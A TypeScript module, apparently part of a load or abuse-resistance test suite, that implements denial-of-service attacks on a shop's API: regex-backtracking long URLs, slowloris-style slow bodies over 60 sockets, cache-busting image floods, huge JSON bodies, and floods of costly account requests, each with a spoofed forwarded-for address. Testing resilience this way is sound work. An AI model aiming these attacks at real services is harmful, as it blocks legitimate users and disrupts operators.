/** Attacks by a single client that try to block everyone else. Each runs until its time is over. */
import { randomBytes } from 'node:crypto'
import { Agent, type OutgoingHttpHeaders, request } from 'node:http'
import { createConnection, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { holdEventStreams } from '../abuse-streams.ts'

export interface Target {
  origin: string
  /** The session of a customer with long orders. */
  cookie: string
  email: string
  /** Order numbers of that customer. */
  orders: readonly string[]
  skus: readonly string[]
}

export interface Outcome {
  requests: number
  refused: number
}

type Attack = (target: Target, milliseconds: number) => Promise<Outcome>

/** The attacker's address, as the proxy in front reports it. */
const ATTACKER = { 'x-forwarded-for': '203.0.113.66' }

interface Call {
  method?: string
  path: string
  headers?: OutgoingHttpHeaders
  body?: string
}

/** @returns the status; 0 if the connection ended before a response */
function send(origin: string, agent: Agent, { method = 'GET', path, headers, body }: Call): Promise<number> {
  return new Promise((settle) => {
    const own =
      body === undefined ? {} : { 'content-type': 'application/json', 'content-length': body.length }
    const asked = request(origin + path, { method, agent, headers: { ...ATTACKER, ...own, ...headers } })
    asked.on('error', () => settle(0))
    asked.on('response', (answer) => {
      answer.on('error', () => settle(0))
      answer.on('end', () => settle(answer.statusCode ?? 0))
      answer.resume()
    })
    asked.end(body)
  })
}

/** Several callers, each sending its next request when the response has arrived. */
async function flood(origin: string, milliseconds: number, callers: number, next: (count: number) => Call) {
  const agent = new Agent({ keepAlive: true, maxSockets: callers })
  const until = performance.now() + milliseconds
  const outcome: Outcome = { requests: 0, refused: 0 }
  async function call() {
    while (performance.now() < until) {
      outcome.requests += 1
      const status = await send(origin, agent, next(outcome.requests))
      if (status < 200 || status >= 400) outcome.refused += 1
    }
  }
  await Promise.all(Array.from({ length: callers }, call))
  agent.destroy()
  return outcome
}

/** URLs just below the length limit, made to cause backtracking. */
const longAddresses: Attack = ({ origin }, milliseconds) => {
  const kinds = ['a', '%4', 'a@', '%40', 'a/']
  return flood(origin, milliseconds, 4, (count) => {
    const kind = kinds[count % kinds.length] ?? 'a'
    return { path: `/api/user/${kind.repeat(Math.floor(15_000 / kind.length))}` }
  })
}

/** Announces a body, sends one byte per second, gives up after some time and starts again. */
const slowBodies: Attack = async ({ origin }, milliseconds) => {
  const { hostname, port, host } = new URL(origin)
  const until = performance.now() + milliseconds
  const outcome: Outcome = { requests: 0, refused: 0 }
  const head = [
    'POST /api/auth/sign-in/email HTTP/1.1',
    `Host: ${host}`,
    `X-Forwarded-For: ${ATTACKER['x-forwarded-for']}`,
    'Content-Type: application/json',
    'Content-Length: 1000',
  ].join('\r\n')

  function open(): Promise<Socket> {
    return new Promise((opened) => {
      const socket = createConnection(Number(port), hostname, () => opened(socket))
      socket.on('error', () => opened(socket))
      socket.once('data', () => {
        outcome.refused += 1
      })
    })
  }

  async function sendSlowBody() {
    while (performance.now() < until) {
      const socket = await open()
      outcome.requests += 1
      socket.write(`${head}\r\n\r\n`)
      for (let byte = 0; byte < 3 && performance.now() < until && !socket.destroyed; byte += 1) {
        socket.write(' ')
        await pause(500)
      }
      socket.destroy()
    }
  }
  await Promise.all(Array.from({ length: 60 }, sendSlowBody))
  return outcome
}

/** The same few images under URLs that nobody has requested before. */
const randomPictures: Attack = ({ origin, skus }, milliseconds) =>
  flood(origin, milliseconds, 20, (count) => {
    const sku = skus[count % skus.length] ?? ''
    const spelled = count % 3 === 0 ? sku.replace('-', '%2d') : sku
    const version = randomBytes(6).toString('base64url')
    return { path: `/drawings/${spelled}.png?v=${version}&view=${randomBytes(3).toString('hex')}` }
  })

const manyKeys = (count: number) =>
  `{${Array.from({ length: count }, (_, index) => `"k${index.toString(36)}":1`).join(',')}}`
const HUGE_OBJECT = manyKeys(150_000)
const WIDE_OBJECT = manyKeys(5_000)
const MANY_ITEMS = JSON.stringify({ terms: Array.from({ length: 9_000 }, () => 'a') })
const SEARCHES = JSON.stringify({
  terms: Array.from({ length: 500 }, (_, index) => `${index % 2 ? 'drill' : 'hammer'} ${index}`),
})

/** Bodies that cost more to parse than to send, and small requests with large responses. */
const costlyGuestCalls: Attack = ({ origin }, milliseconds) => {
  const bodies = [HUGE_OBJECT, WIDE_OBJECT, MANY_ITEMS, SEARCHES]
  return flood(origin, milliseconds, 8, (count) => ({
    method: 'POST',
    path: '/api/quickorder',
    body: bodies[count % bodies.length] ?? '',
  }))
}

/** All long or slow requests that an account may send, at once. */
const costlyAccountCalls: Attack = ({ origin, cookie, email, orders }, milliseconds) =>
  flood(origin, milliseconds, 12, (count) => {
    const headers = { cookie }
    if (count % 2 === 0) return { path: `/api/purchase/${email}`, headers }
    return { path: `/api/orders/${orders[count % orders.length]}/pro-forma.pdf`, headers }
  })

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'event streams that nobody reads': ({ origin, cookie }, milliseconds) =>
    holdEventStreams({ origin, cookie }, milliseconds, new AbortController().signal),
  'addresses of 15 KB': longAddresses,
  '60 sockets that send no body': slowBodies,
  'pictures under random addresses': randomPictures,
  'costly calls of a guest': costlyGuestCalls,
  'invoices and whole lists of one account': costlyAccountCalls,
}
